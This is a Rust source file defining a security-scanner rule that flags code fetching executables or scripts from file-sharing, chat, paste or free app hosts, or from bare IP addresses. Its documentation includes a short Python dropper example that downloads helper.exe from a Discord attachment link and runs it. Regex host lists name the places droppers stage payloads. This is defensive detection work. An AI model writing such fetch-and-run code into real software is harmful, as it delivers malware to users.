//! # SW-GEN-029: program fetched from a file-sharing host or bare IP
//!
//! **What it does.** Finds URLs in code that point at a program or
//! script kept on a file-sharing or chat host — Discord attachment
//! links, Dropbox and Google Drive shares, anonymous file drops, paste
//! hosts and free app hosts (`pages.dev`, `herokuapp.com`) — on a server
//! reached by its bare IP address, at a Windows executable in a
//! repository's raw files (`raw.githubusercontent.com/…/x.exe`), or at a
//! Windows script type (`.vbs`, `.hta`, `.scr`) anywhere.
//!
//! **Why is this bad.** These links are how droppers fetch their second
//! stage: anyone can upload there, nothing is reviewed, and the link
//! outlives the package's removal. Real software ships its programs in
//! the package or downloads them from its own release pages.
//!
//! **Example.**
//!
//! ```python
//! def update():
//!     data = requests.get("https://cdn.discordapp.com/attachments/1/2/helper.exe").content
//!     open("helper.exe", "wb").write(data); os.startfile("helper.exe")
//! ```
//!
//! **False positives.** Few: a program kept on a chat or file-sharing
//! host has no legitimate place in a published library. Scripts (`.py`,
//! `.sh`, `.js`) in a repository's raw files are not reported, since
//! install guides link them (nor PowerShell or batch scripts, which
//! activation scripts are); only Windows executables there are. Tests,
//! docs and examples are not read.



use super::{Context, Emit, Joined, Rule};
use crate::model::Severity;
use crate::guarded::{Guarded, Within};

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-029",
    title: "program fetched from a file-sharing host or bare IP",
    source: include_str!("gen029_hosted_payload.rs"),
    check,
};

/// A URL on a file-sharing, chat, drop or free app host whose path names
/// a program or script.
pub(crate) static SHARED_PROGRAM: Guarded = Guarded::ascii_case_insensitive(
    &["discordapp", "dropbox", "drive.google", "docs.google", "transfer.sh", "0x0.st", "catbox", "anonfiles", "gofile", "mediafire", "pastebin", "paste.ee", "rentry", "pages.dev", "workers.dev", "herokuapp", "onrender", "glitch.me", "repl.co", "pythonanywhere", "000webhostapp"],
    r"(?i-u)https?://(?:cdn\.discordapp\.com/attachments|media\.discordapp\.net/attachments|(?:dl\.|www\.)?dropbox(?:usercontent)?\.com|drive\.google\.com|docs\.google\.com/uc|transfer\.sh|0x0\.st|files\.catbox\.moe|(?:[0-9A-Za-z_-]+\.)?anonfiles\.com|gofile\.io|(?:www\.)?mediafire\.com|pastebin\.com/raw|paste\.ee/r|rentry\.co|[0-9A-Za-z_.-]+\.(?:pages\.dev|workers\.dev|herokuapp\.com|onrender\.com|glitch\.me|repl\.co|pythonanywhere\.com|000webhostapp\.com))/(?u:[^\t\n\x0B\x0C\r '\x22<>])*?\.(?:exe|scr|bat|cmd|ps1|vbs|vbe|js|jse|hta|msi|dll|jar|py|pyw|pyc|pyz|sh|bin|elf|apk|dmg|pkg)(?:[?&#](?u:[^\t\n\x0B\x0C\r '\x22<>])*)?(?:$|[\t\n\x0B\x0C\r '\x22<>])",
);

/// A Windows program among a repository's raw files, or a Windows script
/// type nothing legitimate downloads, from any host.
pub(crate) static WINDOWS_PROGRAM: Guarded = Guarded::ascii_case_insensitive(
    &[".exe", ".scr", ".vbs", ".vbe", ".hta", ".msi", ".dll"],
    r"(?i)https?://(?:raw\.githubusercontent\.com/[^\t\n\x0B\x0C\r '\x22<>]*?\.(?i-u:exe|scr|vbs|hta|msi|dll)|[^\t\n\x0B\x0C\r '\x22<>]+?\.(?i-u:vbs|vbe|hta|scr))(?:[?&#][^\t\n\x0B\x0C\r '\x22<>]*)?(?:$|[\t\n\x0B\x0C\r '\x22<>])",
);

/// A program on a server reached by its IP address.
pub(crate) static IP_PROGRAM: Guarded = Guarded::new(
    &["://0", "://1", "://2", "://3", "://4", "://5", "://6", "://7", "://8", "://9"],
    r"(?i)https?://([0-9]{1,3})\.([0-9]{1,3})\.([0-9]{1,3})\.([0-9]{1,3})(?::[0-9]+)?/[^\t\n\x0B\x0C\r '\x22<>]*?\.(?:exe|scr|bat|cmd|ps1|vbs|hta|msi|dll|jar|py|pyw|sh|bin|elf)(?:[?&#][^\t\n\x0B\x0C\r '\x22<>]*)?(?:$|[\t\n\x0B\x0C\r '\x22<>])",
);


fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    for (file, text, joined) in cx.code_texts_joined() {
        let hit = match (&file.facts, joined) {
            (Some(facts), Some(joined)) => {
                // The expressions, narrowed to the needles of this file's
                // literals; none of them when no literal holds `://`.
                let urls = Urls::within(joined);
                facts
                    .strings
                    .iter()
                    .filter(|l| l.value.len() <= 100_000)
                    .find_map(|lit| Some((lit.stage, lit.line, urls.as_ref()?.program_url(&lit.value)?)))
            }
            _ => Urls::everywhere().program_url(text).map(|url| {
                let offset = text.find(url).unwrap_or(0);
                (file.load_stage(), crate::lang::lexical::line_of(text.as_bytes(), offset), url)
            }),
        };
        if let Some((stage, line, url)) = hit {
            out.finding_at_any_stage(
                Severity::Critical,
                stage,
                &file.path,
                Some(line),
                format!("fetches a program from a file-sharing host or a bare IP address: `{}`", super::clip(url, 120)),
            );
        }
    }
}

/// The program-URL expressions for a set of texts.
struct Urls {
    shared: Option<Within<'static>>,
    windows: Option<Within<'static>>,
    ip: Option<Within<'static>>,
}

impl Urls {
    /// For the texts of `joined`; `None` when none holds `://`.
    fn within(joined: &Joined) -> Option<Self> {
        memchr::memmem::find(joined.text.as_bytes(), b"://")?;
        Some(Self {
            shared: SHARED_PROGRAM.within(joined),
            windows: WINDOWS_PROGRAM.within(joined),
            ip: IP_PROGRAM.within(joined),
        })
    }

    /// For any text.
    fn everywhere() -> Self {
        Self {
            shared: Some(SHARED_PROGRAM.everywhere()),
            windows: Some(WINDOWS_PROGRAM.everywhere()),
            ip: Some(IP_PROGRAM.everywhere()),
        }
    }

    /// The first program URL in `text`.
    fn program_url<'t>(&self, text: &'t str) -> Option<&'t str> {
        // Every expression below starts with `https?://`.
        if !text.contains("://") {
            return None;
        }
        let found = self
            .shared
            .as_ref()
            .and_then(|re| re.find(text))
            .or_else(|| self.windows.as_ref().and_then(|re| re.find(text)))
            .or_else(|| {
                self.ip.as_ref()?.captures_iter(text).find_map(|caps| {
                    let octets: Vec<u8> = (1..=4).filter_map(|i| caps[i].parse().ok()).collect();
                    (octets.len() == 4 && super::gen007_exfil_endpoint::is_public(&octets)).then(|| caps.get(0))?
                })
            })?;
        Some(found.as_str().trim_end_matches(|c: char| c.is_whitespace() || "'\"<>".contains(c)))
    }
}
